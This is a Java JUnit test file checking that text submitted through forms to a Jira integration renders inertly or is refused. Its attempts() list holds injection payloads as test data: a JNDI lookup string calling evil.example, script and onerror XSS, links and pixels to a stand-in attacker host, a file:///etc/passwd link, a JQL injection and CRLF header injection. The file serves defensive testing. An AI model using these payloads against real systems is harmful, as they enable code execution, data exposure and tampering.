package dev.pao.jira;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.pao.fulfillment.FulfillmentException;
import dev.pao.fulfillment.IdempotencyKey;
import dev.pao.model.value.Value;
import dev.pao.testkit.jira.FakeJira;
import dev.pao.testkit.jira.JiraExchange;
import dev.pao.testkit.jira.JiraIssue;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever somebody writes into a form, it is a text in Jira, or it is refused; it never does anything. */
@ParameterizedClass
@EnumSource
class InjectionTest {

    private final JiraDeployment deployment;
    private final FakeJira jira;
    private final JiraProvider provider;

    InjectionTest(JiraDeployment deployment) {
        this.deployment = deployment;
        this.jira = Jiras.start(deployment);
        this.provider = Jiras.provider(jira, deployment);
    }

    static Stream<String> attempts() {
        return Stream.of(
                "{{ requester.email }} {% include 'x' %} {# c #} ${jndi:ldap://evil.example/a} #{7*7}",
                "{code:java}System.exit(1);{code} {noformat}x{noformat} {color:red}red{color} {quote}q{quote}",
                "{html}<script>alert(1)</script>{html} <img src=x onerror=alert(1)>",
                "!https://evil.example/pixel.png! !\\\\evil\\share\\x.png|thumbnail!",
                "[~admin] [~accountid:5b10a2844c20165700ede21g] @admin @[Jane|accountId] <@U1> @here",
                "[click|https://evil.example] [https://evil.example] [mailto:a@evil.example] [^file] [#anchor]",
                "https://evil.example http://evil.example ftp://x file:///etc/passwd mailto:a@evil.example",
                "h1. Approved\nbq. by the board\n# one\n* two\n|| a || b ||\n| c | d |\n----",
                "*b* _i_ -s- +u+ ^p^ ~d~ ??c?? {{m}} (!) (/) (x) :) ;) :D",
                "{\"type\":\"text\",\"text\":\"x\",\"marks\":[{\"type\":\"link\",\"attrs\":{\"href\":\"https://evil.example\"}}]}",
                "\"}]}, {\"type\": \"mention\", \"attrs\": {\"id\": \"admin\"}}",
                "\" OR project = SECRET ORDER BY created DESC -- labels = \"x",
                "x\r\nX-Injected: 1\r\n\r\n{\"fields\":{}}",
                "\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Emarks\u200F",
                "nul\u0000 bell\u0007 escape\u001B[31m delete\u007F c1\u009B end",
                "line\u2028separator paragraph\u2029separator next\u0085line",
                "lone \uD800 surrogate \uDC00 and \uFFFE noncharacter",
                "back\\\\slash \\* \\[ \\{ &#42; &amp; &lt;",
                "1. numbered\n3. not renumbered\n- listed\n- - twice",
                "PLATFORM-1 CVE-2024-0001 #123 user@example.com");
    }

    @AfterEach
    void close() {
        jira.close();
    }

    @ParameterizedTest
    @MethodSource("attempts")
    void aDescriptionShowsItAsItWasWritten(String attempt) {
        JiraIssue issue = created(attempt, Jiras.CONTENT.with("description", Value.of("Name: " + attempt)));

        assertThat(plain(Rendered.description(issue, deployment))).isEqualTo(plain("Name: " + inert(attempt)));
    }

    @ParameterizedTest
    @MethodSource("attempts")
    void aCustomTextShowsItAsItWasWritten(String attempt) {
        Value.Mapping custom = Value.Mapping.EMPTY.with("Justification", Value.of("Name: " + attempt));

        JiraIssue issue = created(attempt, Jiras.CONTENT.with("custom_fields", custom));

        String shown = Rendered.text(issue.fields().get("customfield_10102").orElseThrow(), deployment);
        assertThat(plain(shown)).isEqualTo(plain("Name: " + inert(attempt)));
    }

    @ParameterizedTest
    @MethodSource("attempts")
    void aSummaryIsOneLineOfPlainTextOrRefused(String attempt) {
        Value.Mapping content = Jiras.CONTENT.with("summary", Value.of("Create " + attempt));
        Throwable refusal = catchThrowable(() -> provider.create(Jiras.order(key("summary " + attempt), content)));

        if (inert(attempt).contains("\n")) {
            assertThat(refusal).isInstanceOf(FulfillmentException.Refused.class).hasMessageContaining("several lines");
        } else {
            assertThat(last().summary()).isEqualTo("Create " + inert(attempt).strip());
        }
    }

    @ParameterizedTest
    @MethodSource("attempts")
    void aNameNeverReachesAPathOrAQueryAsSuch(String attempt) {
        int before = jira.exchanges().size();
        for (String key : List.of("project", "issue_type", "priority", "assignee", "parent", "components", "labels")) {
            assertThat(catchThrowable(() -> provider.create(
                            Jiras.order(key(key + attempt), Jiras.CONTENT.with(key, Value.of(attempt))))))
                    .satisfiesAnyOf(
                            failure -> assertThat(failure).isNull(),
                            failure -> assertThat(failure)
                                    .isInstanceOf(FulfillmentException.Refused.class)
                                    .message()
                                    .doesNotContainPattern("\\p{Cntrl}"));
        }
        assertThat(jira.exchanges().subList(before, jira.exchanges().size()))
                .extracting(JiraExchange::path)
                .allMatch(path -> path.matches("/rest/api/[23]/[a-zA-Z0-9_/-]+"));
    }

    @ParameterizedTest
    @MethodSource("attempts")
    void aKeyFindsItsOwnIssueOnly(String attempt) {
        provider.create(Jiras.order("other", Jiras.CONTENT));
        created(attempt + "key", Jiras.CONTENT);

        assertThat(provider.find(new IdempotencyKey(key(attempt + "key")))
                        .orElseThrow()
                        .ref()
                        .key())
                .isEqualTo(last().key());
    }

    private JiraIssue created(String key, Value.Mapping content) {
        provider.create(Jiras.order(key(key), content));
        return last();
    }

    private JiraIssue last() {
        List<JiraIssue> issues = jira.issues();
        return issues.get(issues.size() - 1);
    }

    private static String key(String text) {
        return "wish-" + text.hashCode();
    }

    /** What of a text is no text, as Unicode has it: controls, what turns the direction, halves of pairs. */
    private static String inert(String text) {
        return text.replace("\r\n", "\n")
                .replaceAll("[\\r\\u0085\\u2028\\u2029]", "\n")
                .replaceAll(
                        "[\\p{Cc}\\u061C\\u200E\\u200F\\u202A-\\u202E\\u2066-\\u2069\\p{Cs}\\uFFFE&&[^\\n\\t]]",
                        "\uFFFD");
    }

    /** How lists are marked and paragraphs set apart is the browser's business. */
    private static String plain(String shown) {
        return shown.lines()
                .map(line -> line.replaceFirst("^(- |[0-9]+\\. )*", ""))
                .filter(line -> !line.isBlank())
                .reduce("", (text, line) -> text + "\n" + line);
    }
}
